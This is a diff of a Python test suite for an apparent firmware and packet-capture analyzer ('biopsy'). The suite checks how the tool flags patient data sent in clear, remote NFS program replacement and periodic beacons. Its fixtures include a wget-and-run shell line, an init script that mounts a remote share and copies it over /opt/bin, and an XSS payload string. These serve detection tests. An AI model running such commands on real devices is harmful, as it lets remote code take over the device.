@@ -1,219 +1,323 @@
-"""Why: a capture is judged and joined through the command line; what people read must be what the frames show, no more."""
+"""Why: what the wire shows must reach a person through the command line as the witness judged it: loud where patient data went
+in clear, quiet on ordinary traffic, masked unless asked, read to its end whatever is wrong with the file; and what was read in
+a firmware must be told seen, tried in vain, or not exercised."""
+import gzip
+import hashlib
 import json
 import os
 import pathlib
-import struct
 import subprocess
 import tempfile
 import unittest
 
-try:
-    import jsonschema
-except ImportError:
-    jsonschema = None
+import wire
+from schema_test import closed, jsonschema
 
 BIOPSY = os.environ["BIOPSY"]
 ROOT = pathlib.Path(__file__).resolve().parent.parent
+LAB = pathlib.Path(os.environ.get("BIOPSY_LAB", ROOT / "build" / "lab"))
 CAPTURES = pathlib.Path(os.environ.get("BIOPSY_SHARED", ROOT.parent / "shared")) / "captures"
-DEVICE, SERVER, OTHER = "10.50.0.20", "203.0.113.77", "198.51.100.23"
+DEVICE, PEER, OTHER = "10.50.0.20", "198.51.100.7", "203.0.113.9"
+
+# What the captures' own README says of each: the rule that must be among the findings, and the loudest that any may be.
+JUDGED = {
+    "hl7_adt": ("patient-data-clear", "medium"), "hl7_adt_udi_obx": ("patient-data-clear", "medium"),
+    "hl7_orm": ("patient-data-clear", "medium"), "hl7_mllp_2575": ("patient-data-clear", "high"),
+    "cms_binary_515": ("patient-data-clear", "high"),
+    "mount_unmount_udp": ("remote-share", "low"), "nfs2_udp": ("remote-share", "medium"), "nfs3_session_tcp": ("remote-share", "low"),
+    "nfs3_readdirplus": ("remote-share", "low"), "nfs4_tcp": ("remote-share", "low"), "portmap_sadmind_udp": ("remote-share", "medium"),
+    "mount_bad_status": ("remote-share", "low"),
+    "arm_boot_unanswered_portmap_515": ("attempt-unanswered", "low"), "portmap_many_unanswered": ("attempt-unanswered", "info"),
+    "dicom_assoc_find": ("medical-protocol-no-identity", "low"), "dicom_assoc_find_bogus": ("medical-protocol-no-identity", "low"),
+    "ftp_transfer": ("credential-or-shell-clear", "medium"), "mqtt_userpass": ("credential-or-shell-clear", "low"),
+    "rsh": ("credential-or-shell-clear", "low"), "shell_in_tcp": ("credential-or-shell-clear", "low"),
+    "tftp": ("files-clear", "low"), "tftp_rrq_small": ("files-clear", "low"),
+    "iot_cloud_logsink_nest": ("periodic-peer", "info"), "iot_udp_beacon_tuya": ("periodic-peer", "info"),
+    "dns_exfiltration": ("oddity", "low"),
+    # Background, and what is damaged on purpose: nothing above a note about a public peer.
+    "hl7_mllps_tls_2576": (None, "info"), "ipp_print": (None, "info"), "lpd_benign_print_job": (None, "info"), "mqtt": (None, "info"),
+    "syslog_mixed": (None, "info"), "wsdiscovery_3702": (None, "info"), "dhcp_mud_url": (None, "info"),
+    "dhcpv6_mud_url": (None, "info"), "nfs_attr_oobr": (None, "info"),
+}
+SEVERITIES = ["info", "low", "medium", "high", "critical"]
 
 
-def packed(address):
-    return bytes(map(int, address.split(".")))
+def run(*words, **more):
+    return subprocess.run([BIOPSY, *map(str, words)], capture_output=True, timeout=240, **more)
 
 
-class Traffic:
-    """Packets of a little network as a pcap of link type RAW (101): enough for what the tests say, checksums left out."""
-
-    def __init__(self):
-        self.frames = []
-
-    def ip(self, source, target, protocol, body):
-        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), len(self.frames), 0, 64, protocol, 0, packed(source), packed(target))
-        self.frames.append(head + body)
-
-    def tcp(self, source, sport, target, tport, sequence, acknowledged, flags, data=b""):
-        self.ip(source, target, 6, struct.pack(">HHIIBBHHH", sport, tport, sequence, acknowledged, 0x50, flags, 8192, 0, 0) + data)
-
-    def talk(self, port, said, answer=b"", target=SERVER):
-        """One connection from the device: handshake, what it said, what came back."""
-        sport = 40000 + len(self.frames)
-        self.tcp(DEVICE, sport, target, port, 100, 0, 0x02)
-        self.tcp(target, port, DEVICE, sport, 500, 101, 0x12)
-        self.tcp(DEVICE, sport, target, port, 101, 501, 0x18, said)
-        if answer:
-            self.tcp(target, port, DEVICE, sport, 501, 101 + len(said), 0x18, answer)
-        self.tcp(DEVICE, sport, target, port, 101 + len(said), 501 + len(answer), 0x11)
-
-    def knock(self, port, target=SERVER):
-        self.tcp(DEVICE, 41000 + len(self.frames), target, port, 100, 0, 0x02)
-
-    def write(self, path):
-        out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101)
-        for i, frame in enumerate(self.frames):
-            out += struct.pack("<IIII", 1_700_000_000 + i, 0, len(frame), len(frame)) + frame
-        path.write_bytes(out)
-        return str(path)
-
-
-def run(*words):
-    return subprocess.run([BIOPSY, *words], capture_output=True, timeout=120)
-
-
-class Case(unittest.TestCase):
+class Folder(unittest.TestCase):
     def setUp(self):
         self.folder = tempfile.TemporaryDirectory()
-        self.addCleanup(self.folder.cleanup)
-        self.path = pathlib.Path(self.folder.name)
+        self.place = pathlib.Path(self.folder.name)
 
-    def result(self, *words, status=None):
+    def tearDown(self):
+        self.folder.cleanup()
+
+    def file(self, name, content):
+        (self.place / name).write_bytes(content)
+        return self.place / name
+
+    def capture(self, packets, name="seen.pcap", **more):
+        return self.file(name, wire.pcap(packets, **more))
+
+    def judged(self, *words, status=(0, 1)):
         done = run(*words, "--format", "json")
-        if status is not None:
-            self.assertEqual(done.returncode, status, done.stderr.decode())
+        self.assertIn(done.returncode, status, done.stderr)
         return json.loads(done.stdout)
 
-    def device(self, script):
-        place = self.path / "device/etc/init.d"
-        place.mkdir(parents=True)
-        (self.path / "device/etc/inittab").write_text("::sysinit:/etc/init.d/rcS\n")
-        (place / "rcS").write_text("#!/bin/sh\n" + script)
-        (place / "rcS").chmod(0o755)
-        return str(self.path / "device")
+
+def rules(result):
+    return [finding["rule"] for finding in result["findings"]]
 
 
-class Alone(Case):
-    def test_patient_data_in_clear_is_named_and_masked(self):
-        traffic = Traffic()
-        traffic.talk(2575, b"\x0bMSH|^~\\&|MON|W|C|H|20200101||ADT^A01|1|P|2.6\rPID|1||12345^^^H||CANARY^ALICE||19700102|F\r\x1c\r")
-        capture = traffic.write(self.path / "a.pcap")
-        result = self.result("capture", capture, status=1)
-        finding = result["findings"][0]
-        self.assertEqual((finding["rule"], finding["severity"], finding["cwe"]), ("wire-patient-data-clear", "high", [319, 359]))
-        self.assertIn("PID-5", finding["title"])
-        self.assertEqual(finding["endpoints"][0]["address"], SERVER)
-        self.assertNotIn("ALICE", json.dumps(result))
-        self.assertIn("ALICE", run("capture", capture, "--format", "json", "--show-secrets").stdout.decode())
-        self.assertTrue(all(effect["witness"] == "observed" and effect["site"]["frames"] for effect in result["effects"]))
+class Judged(Folder):
+    def test_shared_captures_as_their_readme_says(self):
+        if not CAPTURES.is_dir():
+            self.skipTest("needs shared captures: all of them")
+        seen = set()
+        for path in sorted(CAPTURES.glob("*.pcap*")):
+            name = path.name.split(".")[0]
+            seen.add(name)
+            with self.subTest(name):
+                rule, loudest = JUDGED[name]
+                result = self.judged("capture", path)
+                loud = max((SEVERITIES.index(f["severity"]) for f in result["findings"]), default=0)
+                self.assertLessEqual(loud, SEVERITIES.index(loudest))
+                told = {r for r in rules(result) if r != "wire-public-peer"}
+                if rule is None:
+                    self.assertEqual(told, set())
+                else:
+                    self.assertIn("wire-" + rule, told)
+                    proofs = [f for f in result["findings"] if f["rule"] == "wire-" + rule]
+                    self.assertTrue(all(any(part["site"]["frames"] for part in f["evidence"]["parts"] if "site" in part) for f in proofs))
+                for effect in result["effects"]:
+                    self.assertEqual(effect["witness"], "observed")
+                self.assertNotIn("capture-cut", [d["name"] for d in result["doubts"]])
+        self.assertEqual(seen, set(JUDGED))
 
-    def test_the_result_keeps_to_the_schema(self):
-        if jsonschema is None:
-            self.skipTest("needs python3-jsonschema")
-        traffic = Traffic()
-        traffic.talk(80, b"GET /a.sh HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nContent-Length: 10\r\n\r\n#!/bin/sh\n")
-        result = self.result("capture", traffic.write(self.path / "a.pcap"))
-        schema = json.loads((ROOT / "docs/schema.json").read_text())
-        self.assertEqual([error.message for error in jsonschema.Draft202012Validator(schema).iter_errors(result)], [])
-        self.assertIn("carved", [file["kind"] for file in result["files"]])
+    def hl7(self, segment=1400):
+        said = wire.mllp(b"MSH|^~\\&|MON|BED1|CS|WARD|20260101120000||ADT^A01|1|P|2.3", b"PID|1||MRN-0042^^^HOSP||TESTPATIENT^ALICE||19700101|F")
+        return wire.Talk(DEVICE, PEER, 6000).open().say(True, said, segment).close().packets
 
-    def test_a_cut_capture_is_read_to_its_end_with_a_doubt(self):
-        traffic = Traffic()
-        traffic.talk(80, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
-        path = self.path / "cut.pcap"
-        traffic.write(path)
-        path.write_bytes(path.read_bytes()[:-7])
-        result = self.result("capture", str(path), status=0)
-        self.assertIn("capture-cut", [doubt["name"] for doubt in result["doubts"]])
-        self.assertIn("wire-public-peer", [finding["rule"] for finding in result["findings"]])
+    def test_patient_data_names_the_field_and_hides_the_value(self):
+        capture = self.capture(self.hl7())
+        for words in (["--format", "text"], ["--format", "json"], ["--format", "html"]):
+            done = run("capture", capture, *words)
+            self.assertEqual(done.returncode, 1)
+            self.assertIn(b"PID-5", done.stdout)
+            self.assertNotIn(b"ALICE", done.stdout)
+            self.assertNotIn(b"MRN-0042", done.stdout)
+            self.assertIn(b"ALICE", run("capture", capture, "--show-secrets", *words).stdout)
 
-    def test_what_is_no_capture_gets_one_sentence_and_3(self):
-        for name, content in (("missing", None), ("empty", b""), ("text", b"not a capture at all\n" * 9)):
-            path = self.path / name
-            if content is not None:
-                path.write_bytes(content)
-            done = run("capture", str(path))
-            self.assertEqual((done.returncode, done.stdout), (3, b""), name)
-            self.assertEqual(done.stderr.count(b"\n"), 1, done.stderr)
+    def test_segments_of_three_bytes_swapped_and_twice_say_the_same(self):
+        def told(packets):
+            return sorted((f["id"], f["severity"]) for f in self.judged("capture", self.capture(packets))["findings"])
+        whole, three = told(self.hl7()), self.hl7(3)
+        middle = three[3:-2]
+        swapped = [packet for i in range(0, len(middle), 2) for packet in middle[i:i + 2][::-1]]
+        self.assertIn("high", [severity for _, severity in whole])
+        for packets in (three, three[:3] + swapped + three[-2:], three[:3] + middle * 2 + three[-2:]):
+            self.assertEqual(told(packets), whole)
+
+    def test_a_gap_costs_what_it_held_and_no_more(self):
+        first = wire.mllp(b"MSH|^~\\&|MON|BED1|CS|WARD|20260101120000||ADT^A01|1|P|2.3", b"PID|1||LOST-1^^^HOSP||LOST^PATIENT||19700101|F")
+        second = wire.mllp(b"MSH|^~\\&|MON|BED1|CS|WARD|20260101120001||ADT^A01|2|P|2.3", b"PID|1||KEPT-2^^^HOSP||KEPT^PATIENT||19700101|F")
+        talk = wire.Talk(DEVICE, PEER, 6000).open().say(True, first + second, 40).close().packets
+        packets = [packet for i, packet in enumerate(talk) if i != 4]
+        done = run("capture", self.capture(packets), "--show-secrets")
+        self.assertIn(b"KEPT^PATIENT", done.stdout)
+
+    def test_a_beacon_and_a_contact_soon_after_the_device_appeared(self):
+        dns = [(0, wire.udp("10.50.0.9", 5000, "10.50.0.1", 123, bytes(48)))]
+        beacon = []
+        for i in range(12):
+            for k, packet in enumerate(wire.Talk(DEVICE, PEER, 7000, 40000 + i).open().say(True, b"\x01\x02ping\x00").say(False, b"ok").close().packets):
+                beacon.append((30 + 35 * i + k / 100, packet))
+        result = self.judged("capture", self.capture(dns + beacon))
+        self.assertIn("wire-periodic-peer", rules(result))
+        contact = next(f for f in result["findings"] if f["rule"] == "wire-public-peer")
+        self.assertIn("without looking a name up", contact["says"])
+        self.assertIn("after it appeared", contact["says"])
+
+    def test_code_in_the_clear_is_carved_and_hashed(self):
+        script = b"#!/bin/sh\necho hello\n"
+        talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /u.sh HTTP/1.0\r\nHost: a.example\r\n\r\n")
+        talk.say(False, b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(script) + script).close()
+        result = self.judged("capture", self.capture(talk.packets))
+        carved = [f for f in result["files"] if f["kind"] == "carved"]
+        self.assertEqual([f["sha256"] for f in carved], [hashlib.sha256(script).hexdigest()])
+        self.assertIn("wire-files-clear", rules(result))
+
+
+class Damaged(Folder):
+    def refused(self, *words, status=3):
+        done = run(*words)
+        self.assertEqual(done.returncode, status, done.stderr)
+        self.assertEqual(done.stderr.count(b"\n"), 1, done.stderr)
+        self.assertTrue(done.stderr.startswith(b"biopsy: "), done.stderr)
+        self.assertNotIn(b"Traceback", done.stderr)
+        return done
+
+    def test_missing_empty_and_wrong_files_get_one_sentence_and_3(self):
+        for path in (self.place / "missing.pcap", self.file("empty", b""), self.place, self.file("text", b"no capture at all\n" * 40),
+                     self.file("gz", bytes.fromhex("1f8b08000000000000ff") + b"nonsense"), self.file("short", b"\xd4\xc3\xb2")):
+            with self.subTest(str(path)):
+                self.refused("capture", path)
+                self.assertEqual(self.refused("scan", "--capture", path, self.file("x.sh", b"#!/bin/sh\n")).stdout, b"")
+
+    def test_usage_errors_give_2(self):
+        for words in (["capture"], ["capture", "x", "--format", "nonsense"], ["capture", "x", "--fail-on", "dire"]):
+            self.assertEqual(run(*words).returncode, 2)
+
+    def test_a_capture_that_is_cut_is_read_to_its_end_with_a_doubt(self):
+        whole = wire.pcap(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        result = self.judged("capture", self.file("cut.pcap", whole[:-20]))
+        self.assertIn("wire-patient-data-clear", rules(result))
+        self.assertIn("capture-cut", [d["name"] for d in result["doubts"]])
 
     def test_a_gzip_capture_reads_as_the_plain_one(self):
-        import gzip
-        traffic = Traffic()
-        traffic.talk(23, b"\xff\xfb\x18root\r\n", b"login: ")
-        plain = pathlib.Path(traffic.write(self.path / "a.pcap"))
-        packed_file = self.path / "b.pcap.gz"
-        packed_file.write_bytes(gzip.compress(plain.read_bytes()))
-        ids = [[f["id"] for f in self.result("capture", str(p))["findings"]] for p in (plain, packed_file)]
-        self.assertTrue(ids[0])
-        self.assertEqual(ids[0], ids[1])
+        plain = wire.pcap(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        half = len(plain) // 2
+        packed = [gzip.compress(plain), gzip.compress(plain[:half]) + gzip.compress(plain[half:])]
+        wanted = [f["id"] for f in self.judged("capture", self.file("a.pcap", plain))["findings"]]
+        for content in packed:
+            self.assertEqual([f["id"] for f in self.judged("capture", self.file("a.pcap.gz", content))["findings"]], wanted)
+        self.assertIn("wire-patient-data-clear", rules(self.judged("capture", self.file("cut.gz", packed[0][:-8]))))
 
-    def test_containment_is_written_from_a_capture(self):
-        traffic = Traffic()
-        traffic.talk(2575, b"\x0bMSH|^~\\&|M|W|C|H|2020||ADT^A01|1|P|2.6\rPID|1||1^^^H||A^B||19700102|F\r\x1c\r")
-        saved = self.path / "r.json"
-        run("capture", traffic.write(self.path / "a.pcap"), "--output", str(saved))
-        rules = run("contain", str(saved), "--as", "csv").stdout.decode()
-        self.assertIn(SERVER, rules)
+    def test_the_worst_of_several_counts_and_the_rest_is_told(self):
+        good = self.capture(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        done = run("capture", good, self.place / "missing.pcap")
+        self.assertEqual(done.returncode, 3)
+        self.assertIn(b"Patient data in clear", done.stdout)
+        self.assertEqual(run("capture", good, "--fail-on", "critical").returncode, 0)
+
+    def test_same_input_same_bytes(self):
+        good = self.capture(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        for form in ("text", "json", "html"):
+            self.assertEqual(run("capture", good, "-f", form).stdout, run("capture", good, "-f", form).stdout)
+
+    def test_hostile_text_goes_out_escaped(self):
+        name = b"\x1b[2J<script>alert(1)</script>"
+        talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /" + name.replace(b" ", b"") + b" HTTP/1.0\r\nHost: a.example\r\n\r\n")
+        talk.say(False, b"HTTP/1.0 200 OK\r\nContent-Length: 12\r\n\r\n#!/bin/sh\nxx").close()
+        capture = self.capture(talk.packets)
+        self.assertNotIn(b"\x1b", run("capture", capture).stdout)
+        self.assertNotIn(b"<script>alert", run("capture", capture, "-f", "html").stdout)
 
 
-class Joined(Case):
-    SCRIPT = f"wget -O /tmp/run.sh http://{SERVER}/run.sh\nsh /tmp/run.sh\n"
+@unittest.skipUnless(jsonschema, "needs python3-jsonschema")
+class KeepsTheSchema(Folder):
+    def test_of_captures_and_of_joined_scans(self):
+        schema = closed(json.loads((ROOT / "docs" / "schema.json").read_text()))
+        jsonschema.Draft202012Validator.check_schema(schema)
+        validator = jsonschema.Draft202012Validator(schema)
+        made = self.capture(wire.nfs_mount(DEVICE, PEER, b"/pm") + wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        results = [self.judged("capture", made), self.judged("scan", "-q", "--capture", made, self.file("up.sh", SCRIPT))]
+        results += [self.judged("capture", path) for path in sorted(CAPTURES.glob("*.pcap*"))]
+        for result in results:
+            errors = [f"{error.json_path}: {error.message[:200]}" for error in validator.iter_errors(result)]
+            errors += [f"{inner.json_path}: {inner.message[:200]}" for error in validator.iter_errors(result) for inner in error.context or ()]
+            self.assertEqual(errors, [], result["device"])
 
-    def finding(self, traffic, script=SCRIPT):
-        capture = traffic.write(self.path / "a.pcap")
-        result = self.result("scan", self.device(script), "--capture", capture, "-q")
-        return result, next(f for f in result["findings"] if f["rule"] == "remote-content-executed")
 
-    def test_a_fetch_that_is_seen_is_confirmed_with_both_proofs(self):
-        traffic = Traffic()
-        traffic.talk(80, b"GET /run.sh HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nContent-Length: 10\r\n\r\n#!/bin/sh\n")
-        _, finding = self.finding(traffic)
+SCRIPT = f"#!/bin/sh\nmount -o nolock -t nfs {PEER}:/pm /mnt\ncp -rf /mnt/* /opt/bin\n".encode()
+
+
+class Joined(Folder):
+    def firmware(self):
+        for path, content in {"etc/inittab": b"::sysinit:/etc/init.d/rcS\n", "etc/init.d/rcS": SCRIPT, "opt/bin/monitor": b"#!/bin/sh\necho on\n"}.items():
+            place = self.place / "root" / path
+            place.parent.mkdir(parents=True, exist_ok=True)
+            place.write_bytes(content)
+            place.chmod(0o755)
+        return self.place / "root"
+
+    def joined(self, packets):
+        return self.judged("scan", "-q", self.firmware(), "--capture", self.capture(packets))
+
+    def grave(self, result):
+        return next(f for f in result["findings"] if f["rule"] == "remote-content-replaces-programs")
+
+    def test_seen_is_confirmed_with_both_proofs(self):
+        finding = self.grave(self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm")))
         self.assertEqual((finding["wire"], finding["confidence"]), ("seen", "confirmed"))
         sites = [part["site"] for part in finding["evidence"]["parts"] if "site" in part]
-        self.assertTrue(any(site["file"] == "/etc/init.d/rcS" for site in sites) or "rcS" in json.dumps(finding["evidence"]))
-        self.assertTrue(any(site.get("frames") for site in sites))
+        self.assertTrue(any(site["file"] == "/etc/init.d/rcS" for site in sites))
+        self.assertTrue(any(site["file"] == "seen.pcap" and site["frames"] for site in sites))
 
-    def test_an_attempt_without_an_answer_confirms_nothing(self):
-        traffic = Traffic()
-        traffic.knock(80), traffic.knock(80)
-        _, finding = self.finding(traffic)
-        self.assertEqual(finding["wire"], "attempted-unanswered")
-        self.assertNotEqual(finding["confidence"], "confirmed")
+    def test_attempted_and_unanswered(self):
+        finding = self.grave(self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm", answered=False)))
+        self.assertEqual((finding["wire"], finding["confidence"]), ("attempted-unanswered", "firm"))
+
+    def test_not_exercised_says_how_to_provoke_it(self):
+        finding = self.grave(self.joined(wire.Talk(DEVICE, OTHER, 443).open().say(True, b"\x16\x03\x01").close().packets))
+        self.assertEqual((finding["wire"], finding["confidence"]), ("not-exercised", "firm"))
+        self.assertTrue(any("restart the device" in part["says"] for part in finding["evidence"]["parts"]), finding["evidence"])
+
+    def test_contact_with_the_peer_alone_confirms_nothing(self):
+        finding = self.grave(self.joined(wire.Talk(DEVICE, PEER, 443).open().say(True, b"\x16\x03\x01").say(False, b"\x16").close().packets))
+        self.assertEqual((finding["wire"], finding["confidence"]), ("not-exercised", "firm"))
 
     def test_another_port_of_the_peer_confirms_nothing(self):
-        traffic = Traffic()
-        traffic.talk(22, b"SSH-2.0-x\r\n", b"SSH-2.0-y\r\n")
-        _, finding = self.finding(traffic, self.SCRIPT.replace(f"{SERVER}/", f"{SERVER}:8080/"))
-        self.assertEqual(finding["wire"], "not-exercised")
+        script = f"#!/bin/sh\nwget -O /tmp/run.sh http://{PEER}:8080/run.sh\nsh /tmp/run.sh\n".encode()
+        for port, wanted in ((22, "not-exercised"), (8080, "seen")):
+            talk = wire.Talk(DEVICE, PEER, port).open().say(True, b"GET /run.sh HTTP/1.0\r\n\r\n").say(False, b"HTTP/1.0 200 OK\r\nContent-Length: 1\r\n\r\nx").close()
+            result = self.judged("scan", "-q", self.file("get.sh", script), "--capture", self.capture(talk.packets))
+            self.assertEqual([f["wire"] for f in result["findings"] if f["rule"] == "remote-content-executed"], [wanted])
 
-    def test_what_was_not_exercised_says_how_to_provoke_it(self):
-        traffic = Traffic()
-        traffic.talk(80, b"GET / HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n", target=OTHER)
-        result, finding = self.finding(traffic)
-        self.assertEqual(finding["wire"], "not-exercised")
-        self.assertIn("to provoke it: boot", json.dumps(finding["evidence"]))
-        gap = next(f for f in result["findings"] if f["rule"] == "wire-not-derived")
-        self.assertEqual((gap["severity"], gap["endpoints"][0]["address"]), ("info", OTHER))
+    def test_observed_and_not_derived_is_a_gap_in_our_reading(self):
+        result = self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm") + wire.Talk(DEVICE, OTHER, 515).open().say(True, wire.cms_patient()).close().packets)
+        gaps = [f for f in result["findings"] if f["rule"] == "wire-not-derived"]
+        self.assertEqual([f["endpoints"][0]["address"] for f in gaps], [OTHER])
+        self.assertIn("wire-patient-data-clear", rules(result))
+
+    def test_a_grave_deed_with_a_known_peer_that_was_not_read_is_a_gap_too(self):
+        result = self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm") + wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        gaps = [f for f in result["findings"] if f["rule"] == "wire-not-derived"]
+        self.assertEqual(len(gaps), 1)
+        self.assertIn("patient-data", gaps[0]["title"])
+
+    def test_the_traffic_of_other_devices_is_left_out(self):
+        others = wire.Talk("10.50.0.77", OTHER, 515).open().say(True, wire.cms_patient()).close().packets
+        result = self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm") + others)
+        self.assertNotIn("wire-patient-data-clear", rules(result))
+
+    def test_all_renderings_say_it(self):
+        capture = self.capture(wire.nfs_mount(DEVICE, PEER, b"/pm"))
+        text = run("scan", "-q", self.firmware(), "--capture", capture).stdout
+        page = run("scan", "-q", self.firmware(), "--capture", capture, "-f", "html").stdout
+        for said in (text, page):
+            self.assertIn(b"seen in the capture", said)
+            self.assertIn(b"confirmed: read in the firmware and seen happening", b" ".join(said.split()))
+
+    def test_the_labs_packages_against_their_own_traffic(self):
+        package = LAB / "monitor-2.0.6.bin"
+        if not package.exists():
+            self.skipTest("needs the lab's packages: cmake --build build/release --target lab")
+        alone = self.judged("scan", "-q", package)
+        peer = next(f for f in alone["findings"] if f["rule"] == "remote-content-replaces-programs")["endpoints"][0]["address"]
+        stream = wire.Talk(DEVICE, peer, 515).open().say(True, wire.cms_patient()).close().packets
+        seen = self.judged("scan", "-q", package, "--capture", self.capture(wire.nfs_mount(DEVICE, peer, b"/pm") + stream))
+        self.assertTrue(all(f["wire"] == "seen" for f in seen["findings"] if f["rule"] == "remote-content-replaces-programs"))
+        only_data = self.judged("scan", "-q", package, "--capture", self.capture(stream))
+        by_menu = [f for f in only_data["findings"] if f["rule"] == "remote-content-replaces-programs"]
+        self.assertTrue(by_menu and all(f["wire"] == "not-exercised" for f in by_menu))
 
 
-# What its README says of each capture, as the worst severity that may be said, and the verdicts that must be there.
-LOUD = {"hl7_adt": "patient-data-clear", "hl7_adt_udi_obx": "patient-data-clear", "hl7_orm": "patient-data-clear",
-        "hl7_mllp_2575": "patient-data-clear", "cms_binary_515": "patient-data-clear", "mount_unmount_udp": "remote-share",
-        "nfs2_udp": "remote-share", "nfs3_session_tcp": "remote-share", "nfs3_readdirplus": "remote-share", "nfs4_tcp": "remote-share",
-        "portmap_sadmind_udp": "remote-share", "arm_boot_unanswered_portmap_515": "attempt-unanswered",
-        "portmap_many_unanswered": "attempt-unanswered", "dicom_assoc_find": "medical-protocol-no-identity",
-        "ftp_transfer": "credential-or-shell-clear", "mqtt_userpass": "credential-or-shell-clear", "rsh": "credential-or-shell-clear",
-        "shell_in_tcp": "credential-or-shell-clear", "tftp": "files-clear", "tftp_rrq_small": "files-clear",
-        "iot_cloud_logsink_nest": "periodic-peer", "iot_udp_beacon_tuya": "periodic-peer", "dns_exfiltration": "oddity"}
-QUIET = ["hl7_mllps_tls_2576", "ipp_print", "lpd_benign_print_job", "mqtt", "syslog_mixed", "wsdiscovery_3702", "dhcp_mud_url", "dhcpv6_mud_url"]
-
-
-@unittest.skipUnless(CAPTURES.exists(), "needs shared captures")
-class Shared(Case):
-    def rules(self, name):
-        path = next(CAPTURES.glob(name + ".pcap*"))
-        return {finding["rule"].removeprefix("wire-"): finding["severity"] for finding in self.result("capture", str(path))["findings"]}
-
-    def test_each_says_what_its_readme_says(self):
-        for name, kind in LOUD.items():
-            with self.subTest(name):
-                self.assertIn(kind, self.rules(name))
-
-    def test_the_background_is_quiet(self):
-        for name in QUIET:
-            with self.subTest(name):
-                self.assertLessEqual(set(self.rules(name).values()), {"info"})
+class Contained(Folder):
+    def test_rules_from_a_capture_name_its_peer_and_its_finding(self):
+        capture = self.capture(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
+        saved = self.place / "saved.json"
+        run("capture", capture, "-o", saved)
+        finding = next(f for f in json.loads(saved.read_text())["findings"] if f["rule"] == "wire-patient-data-clear")
+        for form in ("suricata", "zeek", "nftables", "mud", "csv"):
+            done = run("contain", saved, "--as", form)
+            self.assertEqual(done.returncode, 0, done.stderr)
+            self.assertIn(PEER.encode(), done.stdout)
+            if form != "mud":
+                self.assertIn(finding["id"].encode(), done.stdout)
 
 
 if __name__ == "__main__":
-    if not CAPTURES.exists():
-        print("[  SKIPPED ] capture_test: needs shared captures: judged as their README says")
     unittest.main()
